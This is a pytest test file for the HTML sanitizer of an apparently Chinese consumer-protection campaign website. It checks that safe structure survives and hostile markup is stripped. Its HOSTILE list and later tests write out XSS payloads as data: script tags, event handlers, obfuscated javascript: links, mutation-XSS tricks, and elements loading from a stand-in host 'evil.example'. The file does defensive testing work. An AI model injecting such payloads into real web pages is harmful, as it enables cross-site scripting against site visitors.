"""Raw HTML in campaign bodies: what stays, and every trick that must not survive."""

from __future__ import annotations

import re

import pytest

import nh3

from xiaobao.site.sanitize import is_plain, sanitize_html


def has_no_active_content(html: str) -> bool:
    lowered = html.lower()
    return ("<script" not in lowered and "javascript:" not in lowered and "<iframe" not in lowered
            and "<style" not in lowered and "<svg" not in lowered
            and not re.search(r"\son[a-z]+\s*=", lowered))


HOSTILE = [
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="window.__pwned=1">',
    '<img src="x" ONERROR=alert(1)>',
    '<a href="javascript:window.__pwned=1">点我</a>',
    '<a href="JaVaScRiPt:alert(1)">点我</a>',
    '<a href="jav&#x09;ascript:alert(1)">点我</a>',
    '<a href="&#106;avascript:alert(1)">点我</a>',
    '<iframe src="https://evil.example/"></iframe>',
    "<style>body{display:none}</style>",
    '<svg onload="window.__pwned=1"><circle r="1"/></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<div onclick="alert(1)" style="position:fixed">x</div>',
    '<body onload=alert(1)>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name=q><button>提交</button></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
]


@pytest.mark.parametrize("dirty", HOSTILE)
def test_hostile_html_is_defused(dirty):
    clean = sanitize_html(dirty)
    assert has_no_active_content(clean), clean
    assert "evil.example" not in clean
    assert "<form" not in clean and "<meta" not in clean and "<base" not in clean and "<link" not in clean


def test_script_and_style_lose_their_content_too():
    clean = sanitize_html("<p>前</p><script>var secret = 1;</script><style>.x{}</style><p>后</p>")
    assert clean == "<p>前</p><p>后</p>"


def test_safe_structure_survives():
    html = ("<h2>一、活动概况</h2><p><strong>共计</strong>发放<em>宣传资料</em>7600余份。<br></p>"
            "<ul><li>网点</li></ul><ol start=\"3\"><li>三</li></ol>"
            "<table><thead><tr><th colspan=\"2\">指标</th></tr></thead><tbody><tr><td>网点</td><td>509</td></tr></tbody></table>"
            "<blockquote>引用</blockquote><pre><code>code</code></pre><hr>"
            '<div class="note">注</div><span class="x">y</span>')
    assert sanitize_html(html) == html


def test_links_keep_http_relative_and_mailto_only():
    assert 'href="https://www.pbc.gov.cn/"' in sanitize_html('<a href="https://www.pbc.gov.cn/">人民银行</a>')
    assert 'href="../topics/fraud-prevention/"' in sanitize_html('<a href="../topics/fraud-prevention/">防诈</a>')
    assert 'href="mailto:xfz@samr.gov.cn"' in sanitize_html('<a href="mailto:xfz@samr.gov.cn">邮件</a>')
    dropped = sanitize_html('<a href="ftp://x/">x</a><a href="vbscript:x">y</a>')
    assert "href=" not in dropped and ">x</a>" in dropped and ">y</a>" in dropped


def test_links_get_noopener():
    assert 'rel="noopener noreferrer"' in sanitize_html('<a href="https://www.12315.cn/">12315</a>')


def test_images_only_from_the_site():
    assert sanitize_html('<img src="../assets/a.png" alt="展板">') == '<img src="../assets/a.png" alt="展板">'
    for src in ["https://evil.example/t.gif", "//evil.example/t.gif", "data:image/png;base64,AAAA", "javascript:alert(1)"]:
        clean = sanitize_html(f'<img src="{src}" alt="图">')
        assert "src=" not in clean and 'alt="图"' in clean, clean


@pytest.mark.parametrize("dirty", HOSTILE)
def test_hostile_html_is_never_taken_for_plain(dirty):
    assert not is_plain(dirty) and not is_plain(f"<p>说明</p>{dirty}<p>完</p>")


PLAIN = ["<p>某银行开展宣传 7 &lt; 8 &amp; 9</p>\n<ul>\n<li>发放资料 <strong>7600余份</strong></li>\n</ul>",
         "<h2>活动概况</h2>\n<p>第一行<br />\n第二行</p><hr />", "<blockquote>\n<p>引文</p>\n</blockquote>",
         "<table><thead><tr><th>项目</th></tr></thead><tbody><tr><td>12315</td></tr></tbody></table>"]


@pytest.mark.parametrize("plain", PLAIN)
def test_plain_markdown_output_skips_nh3_and_says_the_same(plain):
    assert is_plain(plain)
    assert sanitize_html(plain) == plain
    strip = lambda h: re.sub(r"<[^>]+>", "", h)  # noqa: E731
    assert strip(nh3.clean(plain)) == strip(plain)


@pytest.mark.parametrize("html", ["<h1>标题</h1>", '<p id="x">t</p>', "<p>a</p><!-- c -->", "<div>x</div>", "<p>7 < 8</p>",
                                  '<th style="text-align: left;">x</th>', "<a>x</a>"])
def test_anything_else_goes_through_nh3(html):
    assert not is_plain(html)


def test_style_and_id_attributes_are_dropped():
    clean = sanitize_html('<p style="color:red" id="x" class="a">t</p><span class="ok bad&quot;" style="x">s</span>')
    assert "style" not in clean and "id=" not in clean
    assert clean.startswith("<p>t</p>")


def test_h1_is_flattened_so_the_page_keeps_one_title():
    assert sanitize_html("<h1>标题</h1>") == "标题"


def test_text_is_escaped_not_lost():
    assert sanitize_html("7 < 8 & 9 > 3") == "7 &lt; 8 &amp; 9 &gt; 3"


# ------------------------------------------------------------------ metadata and docs pages (issue 12)

def test_a_title_never_reaches_markdown():
    from xiaobao.site.pages import generated

    title = "宣传 {: tabindex=0 autofocus onfocus=alert(1) } ![](https://other.host/x.gif)"
    page = generated("x.md", title, "<p>块</p>")
    body = page.markdown.split("\n---\n", 1)[1]  # the front matter holds it as data, escaped
    assert "onfocus" not in body and "other.host" not in body
    assert page.html.startswith("<h1>宣传 {: tabindex=0 autofocus onfocus=alert(1) } ![](https://other.host/x.gif)</h1>")


def test_docs_pages_lose_handlers_and_keep_markdown_structure():
    from xiaobao.site.sanitize import sanitize_docs_html

    html = ('<h2 id="a-b">标题</h2><div class="admonition note"><p class="admonition-title">注意</p></div>'
            '<details class="tip" ontoggle="alert(1)" open><summary>点开</summary><p>内容</p></details>'
            '<svg onload="alert(2)"></svg><img src="https://other.host/x.gif"><p onclick="x()">字</p>')
    clean = sanitize_docs_html(html, {})
    assert "alert" not in clean and "onclick" not in clean and "other.host" not in clean
    assert '<h2 id="a-b">' in clean and '<p class="admonition-title">' in clean
    assert '<details class="tip" open="">' in clean and "<summary>点开</summary>" in clean


def test_only_our_own_marked_blocks_go_in_unsanitised():
    from xiaobao.site.sanitize import sanitize_docs_html, trusted_mark

    ours = '<div class="xb-listing" data-xb-noindex><button onclick="">我们的</button></div>'
    html = f'<p>前 <a href="x" onclick="y"></p>{trusted_mark("0" * 16)}<p>后</p>{trusted_mark("1" * 16)}'
    clean = sanitize_docs_html(html, {"0" * 16: ours})
    assert ours in clean and clean.count("我们的") == 1 and 'onclick="y"' not in clean
    assert "xiaobao:trusted" not in clean  # a forged mark gives nothing


def test_a_link_that_loses_its_url_loses_rel_too():
    """rel without href is invalid HTML (the Nu HTML Checker); the text stays."""
    assert sanitize_html('<a href="javascript:alert(1)">点我</a>') == "<a>点我</a>"


def test_education_pages_keep_tap_to_call_links():
    from xiaobao.site.sanitize import sanitize_docs_html

    out = sanitize_docs_html('<p><a href="tel:12315"><strong>12315</strong></a></p>', {})
    assert 'href="tel:12315"' in out
